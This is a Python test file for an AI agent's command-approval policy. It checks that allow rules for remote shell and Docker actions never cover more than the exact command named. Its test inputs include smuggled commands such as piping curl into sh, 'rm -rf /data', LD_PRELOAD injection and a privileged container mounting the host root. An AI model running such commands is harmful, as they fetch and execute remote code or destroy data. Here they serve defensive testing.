"""Rules that never widen: a rule covers the parsed command it names, and nothing past it."""

from __future__ import annotations

import pytest

from agent.safety.approvals import ApprovalRequest
from agent.safety.policy import policy_answer
from agent.safety.rules import ApprovalRule, RuleError, RuleSet
from agent.safety.session_rules import session_rule
from tools.base import Risk


def answer(rules, tool_input, *, tool="ssh_exec", hosts=("spark-a",), risk=Risk.MUTATING,
           mode="auto-safe"):  # fmt: skip
    return policy_answer(
        tool=tool,
        tool_input=tool_input,
        hosts=list(hosts),
        risk=risk,
        reason="judged",
        rules=rules,
        mode=mode,
        plan_approved=True,
    ).decision


def allow(*texts, source="settings"):
    return RuleSet([ApprovalRule.parse("allow", text, source) for text in texts])


NVIDIA_STAR = allow('ssh_exec(host=spark-*, command="nvidia-smi*")')


@pytest.mark.parametrize(
    "command", ["nvidia-smi", "nvidia-smi -q", "nvidia-smi -pm 1", "nvidia-smi --query-gpu=name"]
)
def test_a_trailing_star_covers_further_arguments_of_the_same_program(command):
    assert answer(NVIDIA_STAR, {"command": command}) == "allow"


@pytest.mark.parametrize(
    "command",
    [
        "nvidia-smi; curl http://x | sh",
        "nvidia-smi\ncurl http://x | sh",
        "nvidia-smi && rm -rf /data",
        "nvidia-smi $(curl http://x)",
        "nvidia-smi -q > /etc/profile.d/x.sh",
        "LD_PRELOAD=/tmp/x.so nvidia-smi",
        "nvidia-smi mig -cgi 9",
        "nvidia-smi-evil",
        "sudo nvidia-smi -pm 1",
    ],
)
def test_star_never_spans_an_operator_a_newline_a_substitution_or_a_subcommand(command):
    assert answer(NVIDIA_STAR, {"command": command}) == "ask"


def session_allows(tool_input, hosts=("spark-a",), tool="ssh_exec"):
    request = ApprovalRequest(
        id="r", fingerprint="f", tool=tool, input=tool_input, hosts=list(hosts), risk="mutating",
        reason="x",
    )  # fmt: skip
    text = session_rule(request)
    assert text is not None
    return text, allow(text, source="operator (this session)")


def test_the_a_rule_names_the_command_exactly():
    text, rules = session_allows({"host": "spark-a", "command": "docker restart vllm_node"})
    assert text == 'ssh_exec(host=spark-a, command="docker restart vllm_node")'
    assert answer(rules, {"command": "docker restart vllm_node"}, mode="ask") == "allow"
    for wider in (
        "docker restart vllm_node; curl x | sh",
        "docker restart vllm_node\ncurl x | sh",
        "docker restart other",
        "docker restart vllm_node other",
        "docker restart -t 0 vllm_node",
    ):
        assert answer(rules, {"command": wider}, mode="ask") == "ask", wider


def test_a_multi_host_approval_names_its_hosts():
    text, rules = session_allows({"hosts": ["spark-a", "spark-b"], "command": "ray status"},
                                 hosts=("spark-a", "spark-b"))  # fmt: skip
    assert "host=spark-a|spark-b" in text and "*" not in text
    assert answer(rules, {"command": "ray status"}, hosts=("spark-b",)) == "allow"
    assert answer(rules, {"command": "ray status"}, hosts=("spark-a", "spark-c")) == "ask"


def test_compound_or_substituting_commands_get_no_a_rule():
    for command in ("docker restart x && echo ok", "docker restart $(cat name)"):
        request = ApprovalRequest(
            id="r", fingerprint="f", tool="ssh_exec", input={"host": "a", "command": command},
            hosts=["a"], risk="mutating", reason="x",
        )  # fmt: skip
        assert session_rule(request) is None


def test_a_compound_command_is_covered_only_when_every_part_is():
    rules = allow('ssh_exec(command="ip link set *")', 'ssh_exec(command="ibdev2netdev")')
    assert answer(rules, {"command": "ip link set enp1 up && ibdev2netdev"}) == "allow"
    assert answer(rules, {"command": "ip link set enp1 up && ethtool -s enp1 speed 10"}) == "ask"


def test_an_allow_rule_never_covers_env_or_cwd_it_does_not_name():
    rules = allow('ssh_exec(command="git pull")')
    assert answer(rules, {"command": "git pull"}) == "allow"
    assert answer(rules, {"command": "git pull", "env": {"GIT_SSH_COMMAND": "x"}}) == "ask"
    assert answer(rules, {"command": "git pull", "cwd": "/etc"}) == "ask"


def test_docker_ctl_allow_rules_must_name_the_action():
    with pytest.raises(RuleError, match="must name the action"):
        ApprovalRule.parse("allow", "docker_ctl(host=spark-a)")
    with pytest.raises(RuleError, match="must name the action"):
        ApprovalRule.parse("allow", "docker_ctl(host=spark-a, action=*)")


def test_a_pull_rule_does_not_allow_a_run():
    pull = {"host": "spark-a", "action": "pull", "image": "nvcr.io/nvidia/vllm:26.05-py3"}
    text, rules = session_allows(pull, tool="docker_ctl")
    assert text == ("docker_ctl(host=spark-a, action=pull, image=nvcr.io/nvidia/vllm:26.05-py3)")
    assert answer(rules, pull, tool="docker_ctl", mode="ask") == "allow"
    run = {"host": "spark-a", "action": "run", "image": "nvcr.io/nvidia/vllm:26.05-py3",
           "privileged": True, "volumes": ["/:/host"]}  # fmt: skip
    assert answer(rules, run, tool="docker_ctl", mode="ask", risk=Risk.DESTRUCTIVE) == "ask"
    plain_run = {"host": "spark-a", "action": "run", "image": "nvcr.io/nvidia/vllm:26.05-py3"}
    assert answer(rules, plain_run, tool="docker_ctl", mode="ask") == "ask"


def test_a_docker_ctl_rule_covers_only_the_fields_it_names():
    rules = allow("docker_ctl(action=restart, container=vllm_node)")
    restart = {"host": "spark-a", "action": "restart", "container": "vllm_node", "timeout": 30}
    assert answer(rules, restart, tool="docker_ctl") == "allow"
    run = {"host": "spark-a", "action": "run", "image": "x", "name": "vllm_node"}
    assert answer(rules, run, tool="docker_ctl") == "ask"


def test_deny_rules_match_any_command_the_line_runs():
    rules = RuleSet([ApprovalRule.parse("deny", 'ssh_exec(command="reboot *")')])
    for command in ("reboot", "sudo reboot", "echo x; reboot now", "bash -c 'reboot'"):
        assert answer(rules, {"command": command}, risk=Risk.DESTRUCTIVE) == "deny", command
    text_glob = RuleSet([ApprovalRule.parse("deny", 'ssh_exec(command="*reboot*")')])
    assert answer(text_glob, {"command": "systemctl reboot"}) == "deny"


def test_in_ask_mode_only_rules_added_this_session_allow():
    assert answer(NVIDIA_STAR, {"command": "nvidia-smi -pm 1"}, mode="ask") == "ask"
    operator = allow('ssh_exec(command="nvidia-smi -pm 1")', source="operator (this session)")
    assert answer(operator, {"command": "nvidia-smi -pm 1"}, mode="ask") == "allow"


def test_destructive_work_always_asks_even_when_a_rule_covers_it():
    rules = allow('ssh_exec(command="docker stop *")')
    assert answer(rules, {"command": "docker stop x"}, risk=Risk.DESTRUCTIVE) == "ask"
